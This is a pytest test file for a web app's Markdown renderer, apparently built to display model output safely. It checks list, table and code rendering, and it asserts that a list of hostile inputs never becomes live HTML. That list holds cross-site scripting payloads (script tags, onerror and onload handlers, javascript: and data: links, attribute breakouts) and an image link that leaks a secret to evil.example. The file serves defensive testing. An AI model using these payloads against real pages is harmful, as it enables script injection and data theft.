"""The page's Markdown: what models write renders as CommonMark + GFM says, and model text
never becomes markup (hostile payloads, and random text checked against the allow-list)."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from app.server.app import create_app
from app.server.markdown import ALLOWED, SAFE_SCHEMES, MarkdownRenderer
from tests.server.fake_engine import FakeEngine
from tests.server.testclient import for_testclient

md = MarkdownRenderer()


class Tags(HTMLParser):
    """Every start tag with its attributes, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Tags:
    t = Tags()
    t.feed(html)
    t.close()
    return t


def assert_safe(html: str) -> None:
    for tag, attrs in parse(html).tags:
        assert tag in ALLOWED, f"<{tag}> in {html!r}"
        assert set(attrs) <= ALLOWED[tag], f"<{tag} {attrs}> in {html!r}"
        if tag == "a":
            assert attrs["href"].lower().startswith(SAFE_SCHEMES), html
            assert "noopener" in attrs["rel"]


def tags(text: str) -> list[str]:
    return [t for t, _ in parse(md.render(text)).tags]


def test_numbered_items_apart_stay_one_list_and_keep_their_start():
    html = md.render("1. one\n\n2. two\n\n3. three")
    assert tags("1. one\n\n2. two\n\n3. three").count("ol") == 1
    assert tags("1. one\n\n2. two\n\n3. three").count("li") == 3
    assert '<ol start="3">' in md.render("3. three\n4. four")
    assert "start" not in html


def test_nested_lists_and_indented_continuations():
    html = md.render("- a\n  - a1\n  - a2\n- b\n\n  more about b\n- c")
    t = tags("- a\n  - a1\n  - a2\n- b\n\n  more about b\n- c")
    assert t.count("ul") == 2 and t.count("li") == 5
    assert "more about b" in html and html.index("more about b") < html.index("c</")
    continued = "1. first\n   still the first\n2. second"
    assert tags(continued).count("ol") == 1 and tags(continued).count("li") == 2


def test_tables_rules_and_strikethrough():
    html = md.render("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n---\n\n~~gone~~")
    t = tags("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n---\n\n~~gone~~")
    assert {"table", "thead", "tbody", "th", "td", "hr", "s"} <= set(t)
    assert 'class="align-right"' in html and "style" not in html


def test_code_is_highlighted_by_language_and_escaped():
    html = md.render("```python\ndef f():\n    return '<b>'\n```")
    assert '<code class="language-python">' in html
    assert '<span class="k">def</span>' in html  # Pygments' keyword token
    assert "&lt;b&gt;" in html and "<b>" not in html
    plain = md.render("```nosuchlanguage\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in plain and "<span" not in plain


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png?q=secret)",
    '[t](https://a.example "title\\" onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "| <b onclick=x>a</b> |\n|---|\n| <svg onload=alert(1)> |",
    "<details open ontoggle=alert(1)>",
    "[x](https://a.example)<!-- comment --><?php ?>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payloads_never_become_markup(payload):
    html = md.render(payload)
    assert_safe(html)
    for tag in ("script", "img", "iframe", "style", "svg", "details"):
        assert f"<{tag}" not in html.lower()


def test_images_become_links_and_links_open_apart():
    html = md.render("![pic](https://example.com/a.png) [site](https://example.com)")
    assert "<img" not in html
    assert html.count('target="_blank"') == 2


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>&\"'`*_~[]()!#|-:=/\\ \nabjs1.")), max_size=80))
def test_random_text_renders_only_allowed_markup(text):
    assert_safe(md.render(text))


@pytest.fixture
def client(tokenizer):
    with TestClient(create_app(server_config=for_testclient(), engine=FakeEngine(tokenizer))) as c:
        yield c


def test_render_endpoint_renders_a_batch_and_refuses_bad_bodies(client):
    r = client.post("/render", json={"texts": ["**a**", "<b>x</b>"]})
    assert r.status_code == 200
    assert r.json()["html"] == ["<p><strong>a</strong></p>\n", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"]
    bodies = (b"not json", b"[]", b'{"texts": "a"}', b'{"texts": [1]}', b'{"texts": ["\\ud800"]}')
    for body in bodies:
        assert client.post("/render", content=body).status_code == 400
    assert client.post("/render", json={"texts": ["x"] * 5000}).status_code == 400
    css = client.get("/highlight.css")
    assert css.headers["content-type"].startswith("text/css") and ".bubble pre code .k" in css.text
